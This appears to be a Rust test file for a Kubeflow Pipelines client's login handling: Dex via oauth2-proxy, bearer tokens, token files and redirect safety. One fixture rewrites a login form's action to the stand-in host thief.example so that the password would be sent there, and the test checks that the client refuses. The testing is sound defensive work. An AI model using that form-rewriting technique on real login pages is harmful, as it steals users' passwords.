//! Every kind of login, against stand-ins that answer as recorded, with sessions that end at the worst moment.

use crate::fault::dialect::{Dialect, Kind, NAMESPACE, USER};
use crate::fault::kinds::Schedule;
use crate::fault::server::{Faulty, Server, plain};
use crate::fault::truth::{self, truth};
use crate::fault::wire;
use crate::fault::world::{Job, Repository, run_with, virtually};
use bytes::Bytes;
use http::header::{ACCEPT, AUTHORIZATION, COOKIE, LOCATION, SET_COOKIE};
use http::{HeaderMap, HeaderValue, StatusCode};
use kfp_gitops::error::Class;
use kfp_gitops::ids::{PipelineId, VersionName};
use kfp_gitops::kfp::auth::{CiIdentity, ClientCredentials, DexLogin, Login, TokenExchange, TokenFile};
use kfp_gitops::kfp::transport::{BoxFuture, Request, Response, Transport, TransportError};
use kfp_gitops::kfp::{Client, Connection, NewVersion};
use kfp_gitops::report::Action;
use kfp_gitops::secret::Secret;
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const PROXY: &str = "http://127.0.0.1:4180";
const PASSWORD: &str = "correct-h0rse-battery";

/// The recorded exchanges of a login.
fn recording() -> Vec<serde_json::Value> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/recordings/kfp/login-dex-oauth2-proxy.json"
    );
    let file: serde_json::Value =
        serde_json::from_slice(&std::fs::read(path).expect("the recording")).expect("JSON");
    file["exchanges"].as_array().expect("exchanges").clone()
}

/// The answer of a recorded exchange: status, headers, and its forms or text as the body.
fn recorded(name: &str) -> Response {
    let all = recording();
    let exchange = all
        .iter()
        .find(|exchange| exchange["name"] == name)
        .expect("an exchange of that name");
    let answer = &exchange["response"];
    let mut headers = HeaderMap::new();
    for (key, value) in answer["headers"].as_object().expect("headers") {
        let key = http::HeaderName::from_bytes(key.as_bytes()).expect("a name");
        headers.insert(
            key,
            HeaderValue::from_str(value.as_str().expect("text")).expect("a value"),
        );
    }
    let body = match answer["forms"].as_array() {
        Some(forms) => {
            let forms: Vec<&str> = forms.iter().map(|form| form.as_str().expect("text")).collect();
            format!("<!DOCTYPE html><html><body>{}</body></html>", forms.join("\n"))
        }
        None => answer["text"].as_str().unwrap_or_default().to_owned(),
    };
    let status = u16::try_from(answer["status"].as_u64().expect("a status")).expect("a status");
    Response {
        status: StatusCode::from_u16(status).expect("a status"),
        headers,
        body: Bytes::from(body),
    }
}

/// An oauth2-proxy with Dex behind it, in front of a multi-user server.
struct Guarded {
    server: Arc<Server>,
    /// Sessions given out; only the last is good.
    sessions: AtomicUsize,
    /// The session ends before the API call with this number.
    ends_at: Option<usize>,
    api_calls: AtomicUsize,
    /// Everything that was sent where it does not belong.
    leaks: Mutex<Vec<String>>,
    several_connectors: bool,
    /// The password is changed once a session was given out.
    password_changes: bool,
    /// Passwords refused.
    refusals: AtomicUsize,
}

impl Guarded {
    fn new(server: &Arc<Server>, ends_at: Option<usize>) -> Arc<Self> {
        Arc::new(Self {
            server: Arc::clone(server),
            sessions: AtomicUsize::new(0),
            ends_at,
            api_calls: AtomicUsize::new(0),
            leaks: Mutex::default(),
            several_connectors: false,
            password_changes: false,
            refusals: AtomicUsize::new(0),
        })
    }

    async fn answer(&self, request: Request) -> Response {
        let at_dex = request.url.port() == Some(5556);
        let body = String::from_utf8_lossy(&request.body).into_owned();
        if !at_dex && body.contains("password") {
            self.leaks
                .lock()
                .unwrap()
                .push(format!("the password went to {}", request.url));
        }
        if at_dex && (request.headers.contains_key(AUTHORIZATION) || request.headers.contains_key("x-key")) {
            self.leaks
                .lock()
                .unwrap()
                .push(format!("a header went to {}", request.url));
        }
        if at_dex {
            self.dex(&request, &body)
        } else {
            self.proxy(request).await
        }
    }

    fn dex(&self, request: &Request, body: &str) -> Response {
        let form: Vec<(String, String)> = url::form_urlencoded::parse(body.as_bytes())
            .into_owned()
            .collect();
        let field = |name: &str| {
            form.iter()
                .find(|(key, _)| key == name)
                .map(|(_, value)| value.as_str())
        };
        match (request.method.as_str(), request.url.path()) {
            ("GET", "/dex/auth") if request.url.query().unwrap_or_default().contains("hmac=gtQY") => {
                recorded("after_password_0")
            }
            ("GET", "/dex/auth") if request.url.query().unwrap_or_default().contains("hmac=16q2") => {
                recorded("after_password_2")
            }
            ("GET", "/dex/auth") if self.several_connectors => plain(
                200,
                "text/html",
                r#"<html><a href="/dex/auth/ldap?req=1&amp;client_id=kubeflow">LDAP</a><a href="/dex/auth/local?x=1">Email</a></html>"#,
            ),
            ("GET", "/dex/auth") => recorded("follow_0"),
            ("GET", "/dex/auth/local" | "/dex/auth/ldap") => recorded("follow_1"),
            ("GET", "/dex/auth/local/login") => recorded("follow_2"),
            ("POST", "/dex/auth/local/login")
                if field("login") == Some("user@example.com")
                    && field("password") == Some(PASSWORD)
                    && !(self.password_changes && self.sessions.load(Ordering::Relaxed) > 0) =>
            {
                recorded("password")
            }
            ("POST", "/dex/auth/local/login") => {
                self.refusals.fetch_add(1, Ordering::Relaxed);
                recorded("wrong_password")
            }
            ("GET", "/dex/approval") => recorded("after_password_1"),
            ("POST", "/dex/approval") if field("approval") == Some("approve") && field("req").is_some() => {
                recorded("approve")
            }
            (method, path) => panic!("Dex was asked {method} {path}"),
        }
    }

    async fn proxy(&self, mut request: Request) -> Response {
        let cookies = request
            .headers
            .get(COOKIE)
            .and_then(|value| value.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        match request.url.path() {
            "/oauth2/start" => return recorded("start"),
            "/oauth2/callback" => {
                assert!(
                    cookies.contains("oauth2_proxy_kubeflow_csrf="),
                    "the cookie of the start is missing: {cookies}"
                );
                let number = self.sessions.fetch_add(1, Ordering::Relaxed) + 1;
                let mut answer = recorded("after_password_3");
                let cookie = format!(
                    "oauth2_proxy_kubeflow=session-{number}-secret; Path=/; Max-Age=604800; HttpOnly"
                );
                answer
                    .headers
                    .insert(SET_COOKIE, HeaderValue::from_str(&cookie).expect("a cookie"));
                answer
                    .headers
                    .insert(LOCATION, HeaderValue::from_static("/apis/v2beta1/pipelines"));
                return answer;
            }
            _ => {}
        }
        let good = format!(
            "oauth2_proxy_kubeflow=session-{}-secret",
            self.sessions.load(Ordering::Relaxed)
        );
        let wants_json = request
            .headers
            .get(ACCEPT)
            .is_some_and(|accept| accept == "application/json");
        let mut logged_in = cookies.contains(&good);
        if logged_in && wants_json {
            let number = self.api_calls.fetch_add(1, Ordering::Relaxed);
            if self.ends_at == Some(number) {
                // From now on this session is not known any more.
                self.sessions.fetch_add(1, Ordering::Relaxed);
                logged_in = false;
            }
        }
        if !logged_in {
            return recorded(if wants_json {
                "not_logged_in_json"
            } else {
                "not_logged_in"
            });
        }
        request
            .headers
            .insert("kubeflow-userid", HeaderValue::from_static(USER));
        self.server.answer(request).await
    }
}

impl Transport for Guarded {
    fn send(&self, request: Request) -> BoxFuture<'_, Result<Response, TransportError>> {
        Box::pin(async move {
            tokio::time::sleep(Duration::from_millis(7)).await;
            Ok(self.answer(request).await)
        })
    }
}

fn secret(text: &str) -> Secret {
    Secret::new(text).expect("a secret")
}

fn dex(password: &str) -> Login {
    Login::Dex(DexLogin {
        username: "user@example.com".to_owned(),
        password: secret(password),
        connector: None,
    })
}

fn client(transport: Arc<dyn Transport>, login: Login) -> Client {
    let mut connection = Connection::new(PROXY.parse().expect("an address"));
    connection.seed = Some(1);
    connection.namespace = Some(NAMESPACE.to_owned());
    connection.login = login;
    Client::with_transport(connection, transport).expect("a client")
}

fn repository() -> Repository {
    Repository::of(&[("one", "1"), ("two", "1")])
}

#[test]
fn dex_is_logged_into_as_recorded() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let guarded = Guarded::new(&server, None);
        let ran = run_with(
            &client(guarded.clone(), dex(PASSWORD)),
            &repository(),
            &Job::new(1),
        )
        .await;
        assert_eq!(ran.actions(), [Action::Created, Action::Created], "{ran:#?}");
        truth::equals(&truth(&server).await, &repository());
        assert_eq!(
            guarded.sessions.load(Ordering::Relaxed),
            1,
            "one login for all calls"
        );
        assert!(guarded.leaks.lock().unwrap().is_empty());
    });
}

#[test]
fn a_session_may_end_before_any_call() {
    let calls = virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let guarded = Guarded::new(&server, None);
        run_with(
            &client(guarded.clone(), dex(PASSWORD)),
            &repository(),
            &Job::new(1),
        )
        .await;
        guarded.api_calls.load(Ordering::Relaxed)
    });
    assert!(calls >= 12, "{calls}");
    for ends_at in 0..calls {
        virtually(async {
            let server = Server::new(Dialect::new(Kind::MultiUser), 1);
            let guarded = Guarded::new(&server, Some(ends_at));
            let ran = run_with(
                &client(guarded.clone(), dex(PASSWORD)),
                &repository(),
                &Job::new(1),
            )
            .await;
            assert!(
                truth::undone(&ran).is_empty(),
                "session over at call {ends_at}: {ran:#?}"
            );
            let held = truth(&server).await;
            truth::equals(&held, &repository());
            truth::no_duplicates(&held);
            assert_eq!(
                guarded.sessions.load(Ordering::Relaxed),
                3,
                "one ended, one new login"
            );
        });
    }
}

#[test]
fn a_wrong_password_is_said_once_and_not_shown() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let guarded = Guarded::new(&server, None);
        let ran = run_with(
            &client(guarded, dex("wr0ng-passw0rd")),
            &repository(),
            &Job::new(1),
        )
        .await;
        let failure = ran.error.expect("a failure");
        assert_eq!(failure.class, Class::Usage);
        assert_eq!(
            failure.message,
            "the login at http://127.0.0.1:5556/dex/auth/local/login refuses user `user@example.com` with this password"
        );
        assert!(!format!("{failure:?}").contains("wr0ng"));
    });
}

#[test]
fn a_refused_password_is_not_sent_again() {
    virtually(async {
        // Changed while the run is under way: directories close an account after a few wrong ones.
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let mut guarded = Arc::into_inner(Guarded::new(&server, Some(6))).expect("the only one");
        guarded.password_changes = true;
        let guarded = Arc::new(guarded);
        let client = client(Arc::<Guarded>::clone(&guarded), dex(PASSWORD));
        let ran = run_with(&client, &Repository::many(25, "1"), &Job::new(1)).await;
        assert!(!truth::undone(&ran).is_empty(), "{ran:#?}");
        assert_eq!(guarded.refusals.load(Ordering::Relaxed), 1);
    });
}

#[test]
fn the_connector_asked_for_is_chosen() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let mut guarded = Arc::into_inner(Guarded::new(&server, None)).expect("the only one");
        guarded.several_connectors = true;
        let ran = run_with(
            &client(Arc::new(guarded), dex(PASSWORD)),
            &repository(),
            &Job::new(1),
        )
        .await;
        assert!(truth::undone(&ran).is_empty(), "{ran:#?}");
    });
}

#[test]
fn a_session_from_a_browser_works_until_it_ends() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let guarded = Guarded::new(&server, None);
        guarded.sessions.store(1, Ordering::Relaxed);
        let cookie =
            |number: u32| Login::Cookie(secret(&format!("oauth2_proxy_kubeflow=session-{number}-secret")));
        let ran = run_with(&client(guarded.clone(), cookie(1)), &repository(), &Job::new(1)).await;
        assert!(truth::undone(&ran).is_empty(), "{ran:#?}");
        // Tampered with, or over: recognised as "not logged in", and nothing to log in with.
        let failure = run_with(&client(guarded, cookie(7)), &repository(), &Job::new(2))
            .await
            .error
            .expect("a failure");
        assert_eq!(failure.class, Class::Usage);
        assert!(failure.message.contains("not logged in"), "{}", failure.message);
    });
}

/// A server that takes only one bearer token at a time, with an authority that gives them.
struct Tokens {
    server: Arc<Server>,
    current: AtomicUsize,
    /// A token is good for so many calls.
    uses: usize,
    used: AtomicUsize,
    given: AtomicUsize,
    asked: Mutex<Vec<Request>>,
    takes_basic: bool,
}

impl Tokens {
    fn new(server: &Arc<Server>, uses: usize) -> Tokens {
        Tokens {
            server: Arc::clone(server),
            current: AtomicUsize::new(0),
            uses,
            used: AtomicUsize::new(0),
            given: AtomicUsize::new(0),
            asked: Mutex::default(),
            takes_basic: true,
        }
    }

    fn give(&self) -> String {
        self.used.store(0, Ordering::Relaxed);
        self.given.fetch_add(1, Ordering::Relaxed);
        format!("tok-{}-secret", self.current.fetch_add(1, Ordering::Relaxed) + 1)
    }

    async fn answer(&self, mut request: Request) -> Response {
        let bearer = request
            .headers
            .get(AUTHORIZATION)
            .and_then(|value| value.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        match request.url.host_str().expect("a host") {
            "ci.test" => {
                self.asked.lock().unwrap().push(request.clone());
                assert_eq!(bearer, "Bearer request-secret");
                plain(
                    200,
                    "application/json",
                    r#"{"count":1,"value":"ci-identity-secret"}"#,
                )
            }
            "authority.test" => {
                self.asked.lock().unwrap().push(request.clone());
                if bearer.starts_with("Basic") && !self.takes_basic {
                    return plain(401, "application/json", r#"{"error":"invalid_client"}"#);
                }
                let body = String::from_utf8_lossy(&request.body);
                if body.contains("bad-secret") || bearer == "Basic Y2xpZW50OmJhZC1zZWNyZXQ=" {
                    return plain(
                        400,
                        "application/json",
                        r#"{"error":"invalid_client","error_description":"no such client"}"#,
                    );
                }
                plain(
                    200,
                    "application/json",
                    &format!(
                        r#"{{"access_token":"{}","token_type":"Bearer","expires_in":300}}"#,
                        self.give()
                    ),
                )
            }
            _ => {
                let good = format!("Bearer tok-{}-secret", self.current.load(Ordering::Relaxed));
                let direct = bearer == "Bearer ci-identity-secret" && self.uses == usize::MAX;
                if !direct && (bearer != good || self.used.fetch_add(1, Ordering::Relaxed) >= self.uses) {
                    return plain(
                        401,
                        "application/json",
                        r#"{"code":16,"message":"Unauthenticated: token has expired"}"#,
                    );
                }
                request
                    .headers
                    .insert("kubeflow-userid", HeaderValue::from_static(USER));
                self.server.answer(request).await
            }
        }
    }
}

impl Transport for Tokens {
    fn send(&self, request: Request) -> BoxFuture<'_, Result<Response, TransportError>> {
        Box::pin(async move {
            tokio::time::sleep(Duration::from_millis(7)).await;
            Ok(self.answer(request).await)
        })
    }
}

fn credentials(client_secret: &str) -> Login {
    Login::ClientCredentials(ClientCredentials {
        token_url: "https://authority.test/token".parse().expect("an address"),
        client_id: "client".to_owned(),
        client_secret: secret(client_secret),
        audience: Some("pipelines.kubeflow.org".to_owned()),
        scope: None,
    })
}

#[test]
fn client_credentials_are_renewed_when_a_token_is_refused() {
    for (uses, takes_basic) in [(1000, true), (1000, false), (3, true), (2, false)] {
        virtually(async {
            let server = Server::new(Dialect::new(Kind::MultiUser), 1);
            let tokens = Arc::new(Tokens {
                takes_basic,
                ..Tokens::new(&server, uses)
            });
            let ran = run_with(
                &client(tokens.clone(), credentials("client-secret")),
                &repository(),
                &Job::new(1),
            )
            .await;
            assert!(truth::undone(&ran).is_empty(), "{uses} {takes_basic}: {ran:#?}");
            let held = truth(&server).await;
            truth::equals(&held, &repository());
            truth::no_duplicates(&held);
            let asked = tokens.asked.lock().unwrap();
            let last = asked.last().expect("asked");
            let body = String::from_utf8_lossy(&last.body).into_owned();
            assert!(
                body.contains("grant_type=client_credentials")
                    && body.contains("audience=pipelines.kubeflow.org")
            );
            assert_eq!(body.contains("client-secret"), !takes_basic);
        });
    }
}

#[test]
fn a_token_is_replaced_before_it_runs_out() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let tokens = Arc::new(Tokens::new(&server, 1000));
        let client = client(tokens.clone(), credentials("client-secret"));
        client.server().await.expect("a server");
        tokio::time::sleep(Duration::from_secs(241)).await;
        client.pipelines_page(None, 1, None).await.expect("a page");
        assert_eq!(tokens.given.load(Ordering::Relaxed), 2, "300 s less a minute");
    });
}

#[test]
fn a_client_the_authority_refuses_is_said() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let tokens = Arc::new(Tokens::new(&server, 1000));
        let ran = run_with(
            &client(tokens, credentials("bad-secret")),
            &repository(),
            &Job::new(1),
        )
        .await;
        let failure = ran.error.expect("a failure");
        assert_eq!(failure.class, Class::Usage);
        assert_eq!(
            failure.message,
            "the token endpoint https://authority.test/token refused to give a token (status 400): invalid_client"
        );
        assert!(!format!("{failure:?}").contains("bad-secret"));
    });
}

#[test]
fn the_ci_platforms_identity_is_used_directly_or_exchanged() {
    let identity = |exchange: Option<TokenExchange>| {
        Login::CiIdentity(CiIdentity {
            request_url: "https://ci.test/token?api-version=2".parse().expect("an address"),
            request_token: secret("request-secret"),
            audience: Some("pipelines.kubeflow.org".to_owned()),
            exchange,
        })
    };
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let tokens = Arc::new(Tokens::new(&server, usize::MAX));
        let ran = run_with(
            &client(tokens.clone(), identity(None)),
            &repository(),
            &Job::new(1),
        )
        .await;
        assert!(truth::undone(&ran).is_empty(), "{ran:#?}");
        let asked = tokens.asked.lock().unwrap();
        assert_eq!(
            asked[0].url.query(),
            Some("api-version=2&audience=pipelines.kubeflow.org")
        );
    });
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let tokens = Arc::new(Tokens::new(&server, 4));
        let exchange = TokenExchange {
            token_url: "https://authority.test/token".parse().expect("an address"),
            client_id: Some("ci".to_owned()),
            client_secret: None,
            audience: None,
            connector: Some("github".to_owned()),
        };
        let ran = run_with(
            &client(tokens.clone(), identity(Some(exchange))),
            &repository(),
            &Job::new(1),
        )
        .await;
        assert!(truth::undone(&ran).is_empty(), "{ran:#?}");
        let body = String::from_utf8_lossy(&tokens.asked.lock().unwrap()[1].body).into_owned();
        assert!(
            body.contains("subject_token=ci-identity-secret") && body.contains("connector_id=github"),
            "{body}"
        );
        truth::no_duplicates(&truth(&server).await);
    });
}

#[test]
fn a_token_file_is_read_again_when_somebody_renews_it() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("token");
    // Whoever renews it does so whenever the server stops taking the old one.
    struct Renewing(Tokens, std::path::PathBuf);
    impl Transport for Renewing {
        fn send(&self, request: Request) -> BoxFuture<'_, Result<Response, TransportError>> {
            Box::pin(async move {
                tokio::time::sleep(Duration::from_millis(7)).await;
                let response = self.0.answer(request).await;
                if response.status == 401 {
                    std::fs::write(&self.1, format!("{}\n", self.0.give())).expect("written");
                }
                Ok(response)
            })
        }
    }
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let tokens = Tokens::new(&server, 4);
        std::fs::write(&path, tokens.give()).expect("written");
        let way = Arc::new(Renewing(tokens, path.clone()));
        let login = Login::TokenFile(TokenFile::new(&path));
        let ran = run_with(&client(way, login.clone()), &repository(), &Job::new(1)).await;
        assert!(truth::undone(&ran).is_empty(), "{ran:#?}");
        truth::no_duplicates(&truth(&server).await);
        for (text, expected) in [(Some(" \n"), "is empty"), (None, "cannot be read")] {
            match text {
                Some(text) => std::fs::write(&path, text).expect("written"),
                None => std::fs::remove_file(&path).expect("removed"),
            }
            let way = Faulty::new(&server, Schedule::Fair);
            let failure = run_with(&client(way, login.clone()), &repository(), &Job::new(2))
                .await
                .error
                .expect("a failure");
            assert!(
                failure.class == Class::Usage && failure.message.contains(expected),
                "{failure:?}"
            );
        }
    });
}

#[test]
fn the_user_header_names_the_caller() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let user = |user: &str| Login::UserHeader {
            name: "kubeflow-userid".to_owned(),
            user: user.to_owned(),
        };
        let way = Faulty::new(&server, Schedule::Fair);
        let ran = run_with(&client(way.clone(), user(USER)), &repository(), &Job::new(1)).await;
        assert!(truth::undone(&ran).is_empty(), "{ran:#?}");
        let failure = run_with(&client(way, user("mallory")), &repository(), &Job::new(2))
            .await
            .error
            .expect("a failure");
        assert_eq!(failure.class, Class::Usage);
    });
}

/// A page that sends what is typed into it elsewhere.
struct Stealing(Arc<Guarded>);

impl Transport for Stealing {
    fn send(&self, request: Request) -> BoxFuture<'_, Result<Response, TransportError>> {
        Box::pin(async move {
            let mut answer = self.0.answer(request).await;
            let page = String::from_utf8_lossy(&answer.body).into_owned();
            if page.contains("type=\"password\"") {
                answer.body = page
                    .replace("action=\"/dex", "action=\"http://thief.example/dex")
                    .into();
            }
            Ok(answer)
        })
    }
}

#[test]
fn a_login_page_cannot_send_the_password_elsewhere() {
    virtually(async {
        let server = Server::new(Dialect::new(Kind::MultiUser), 1);
        let guarded = Guarded::new(&server, None);
        let stealing = Arc::new(Stealing(Arc::clone(&guarded)));
        let ran = run_with(&client(stealing, dex(PASSWORD)), &repository(), &Job::new(1)).await;
        let failure = ran.error.expect("a failure");
        assert!(
            failure
                .message
                .contains("wants the password sent to another server"),
            "{failure:?}"
        );
        assert!(guarded.leaks.lock().unwrap().is_empty());
    });
}

/// A server on a socket that answers everything alike, and counts.
async fn answering(status: u16, location: Option<String>) -> (String, Arc<AtomicUsize>) {
    let asked = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&asked);
    let app = axum::Router::new().fallback(move || {
        counter.fetch_add(1, Ordering::Relaxed);
        let mut answer = http::Response::builder().status(status);
        if let Some(location) = &location {
            answer = answer.header(LOCATION, location);
        }
        let answer = answer.body(axum::body::Body::from("{}")).unwrap();
        async move { answer }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, asked)
}

#[tokio::test]
async fn no_credential_goes_along_a_redirect() {
    for status in [301, 302, 303, 307, 308] {
        let (elsewhere, heard) = answering(200, None).await;
        let (endpoint, asked) = answering(status, Some(format!("{elsewhere}/apis"))).await;
        let logins = [
            Login::None,
            Login::Bearer(secret("tok-5ecret")),
            Login::Cookie(secret("session=5ecret")),
            Login::UserHeader {
                name: "kubeflow-userid".to_owned(),
                user: USER.to_owned(),
            },
            Login::ClientCredentials(ClientCredentials {
                token_url: endpoint.parse().expect("an address"),
                client_id: "ci".to_owned(),
                client_secret: secret("s3cret"),
                scope: None,
                audience: None,
            }),
        ];
        for login in logins {
            let mut connection = Connection::new(endpoint.parse().expect("an address"));
            connection.headers = vec![("x-key".to_owned(), secret("key-5ecret"))];
            connection.deadline = Duration::from_secs(5);
            connection.login = login;
            let client = Client::new(connection).expect("a client");
            assert!(client.server().await.is_err());
            let read = client.newest_version(&PipelineId::new("p")).await;
            let written = client
                .upload_version(&NewVersion {
                    pipeline_id: PipelineId::new("p"),
                    name: VersionName::new("v1"),
                    display_name: None,
                    description: String::new(),
                    tags: BTreeMap::new(),
                    document: Bytes::from_static(b"{}"),
                    after: None,
                })
                .await;
            assert!(read.is_err() && written.is_err(), "{status}");
        }
        assert_eq!(heard.load(Ordering::Relaxed), 0, "{status}");
        assert!(asked.load(Ordering::Relaxed) >= 12, "{status}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_proxy_is_used_unless_the_host_is_excepted() {
    let root = wire::root();
    // The stand-in is the proxy here: it is asked for a host that does not exist.
    let (wire, proxy) = wire::Wire::start(Kind::V2_17_0).await;
    let arguments = ["plan", "--endpoint", "http://ml-pipeline.invalid:8888"];
    let said = wire
        .run_in(
            root.path(),
            &arguments,
            &[("HTTP_PROXY", &proxy), ("NO_PROXY", "")],
        )
        .await;
    assert_eq!(said.code, 0, "{said:?}");
    let asked = wire.calls();
    assert!(asked >= 2, "{asked}");
    let said = wire
        .run_in(
            root.path(),
            &arguments,
            &[("HTTP_PROXY", &proxy), ("NO_PROXY", "ml-pipeline.invalid")],
        )
        .await;
    assert_eq!(said.code, 75, "{said:?}");
    assert_eq!(wire.calls(), asked, "the proxy was not asked again");
    // The first call failed, so the shortened doctor says why.
    let detail = said.json()["error"]["detail"].to_string();
    assert!(detail.contains("dns"), "{detail}");
}
